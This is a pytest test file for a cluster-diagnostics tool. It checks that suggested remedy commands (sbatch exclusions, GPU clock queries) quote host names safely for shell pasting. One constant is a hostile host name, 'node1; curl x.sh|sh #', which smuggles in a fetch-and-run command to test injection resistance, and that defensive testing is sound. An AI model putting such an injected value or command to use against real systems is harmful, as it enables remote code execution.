"""Remedies can be pasted into a shell whatever hosts are called, and name tools that the hosts have."""

from __future__ import annotations

import shlex
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.explain.made import STEPS, found, job, ring
from tests.replay.windows import late

from allpull.explain.evidence.hosts.machine import Machine
from allpull.explain.evidence.start import Start
from allpull.explain.remedy_text import clocks, leave_out, quoted

HOSTILE = "node1; curl x.sh|sh #"
HOSTS = (HOSTILE, HOSTILE, "node2", "node2", "node3", "node3", "node4", "node4")
MACHINE = Machine(hosts=HOSTS)
ON_SLURM = Start(starter="run", launcher="slurm", on_slurm=True)


@given(st.lists(st.text(), min_size=1))
def test_names_are_one_word_of_a_shell_whatever_is_in_them(names: list[str]) -> None:
    words = shlex.split(f"sbatch --exclude={quoted(names)} job.sh")
    assert len(words) == 3
    assert words[1].isprintable()


def test_ordinary_names_stay_as_they_are() -> None:
    assert leave_out(ON_SLURM, MACHINE, "node2", "node-3.cluster_a").text == (
        "; until it is repaired, leave it out: sbatch --exclude=node2,node-3.cluster_a"
    )


@pytest.mark.parametrize(
    ("start", "how"),
    [
        (Start(starter="train", launcher="ssh"), "delete node2 from the hosts file"),
        (Start(starter="torchrun"), "torchrun --nnodes=3 on the others"),
        (Start(starter="rehearsal"), "start on the hosts without node2"),
    ],
)
def test_a_host_is_left_out_where_hosts_are_named(start: Start, how: str) -> None:
    assert leave_out(start, MACHINE, "node2").text == f"; until it is repaired, leave it out: {how}"


def test_the_only_host_is_not_left_out() -> None:
    assert not leave_out(ON_SLURM, Machine(hosts=("node1", "node1")), "node1")
    assert not leave_out(ON_SLURM, MACHINE, "")


def test_no_rule_says_a_hostile_name_as_a_command() -> None:
    slow_link = replace(
        MACHINE,
        connections=tuple(
            replace(way, source=way.source.replace("node1", HOSTILE), target=way.target.replace("node1", HOSTILE))
            for way in ring(4, {(3, 0): 1e6, (0, 1): 1e6}, busy_share=1.0)
        ),
    )
    slow_host = job(8, forward=late(8, STEPS, rank=0, by_s=0.02) + late(8, STEPS, rank=1, by_s=0.02))
    slow_rank = job(8, forward=late(8, STEPS, rank=1, by_s=0.02))
    for one, machine, rule in (
        (job(8, bucket_s=(0.03, 0.04, 0.02)), slow_link, "slow-link"),
        (slow_host, MACHINE, "uneven-hosts"),
        (slow_rank, MACHINE, "slow-rank"),
    ):
        (finding,) = found(one, machine, start=ON_SLURM).findings
        assert finding.rule == rule
        assert "sbatch --exclude='node1; curl x.sh|sh #'" in finding.remedy
        assert HOSTILE not in finding.remedy.replace(f"'{HOSTILE}'", "")


@pytest.mark.parametrize(
    ("names", "command"),
    [
        ((), "cpupower frequency-info"),
        (("Tesla V100-SXM2-16GB",), "nvidia-smi -q -d CLOCK,PERFORMANCE"),
        (("AMD Instinct MI250X",), "amd-smi metric --clock --temperature"),
    ],
)
def test_clocks_are_asked_of_what_the_host_has(names: tuple[str, ...], command: str) -> None:
    machine = replace(MACHINE, gpus={"node2": names, "node3": ("V100",)})
    assert clocks(machine, "node2").text == command
    slow = np.zeros((STEPS, 8))
    slow[:, 3] = 0.02
    (finding,) = [one for one in found(job(8, forward=slow), machine).findings if not one.advice]
    assert command in finding.remedy
    assert ("nvidia-smi" in finding.remedy) == ("nvidia" in command)
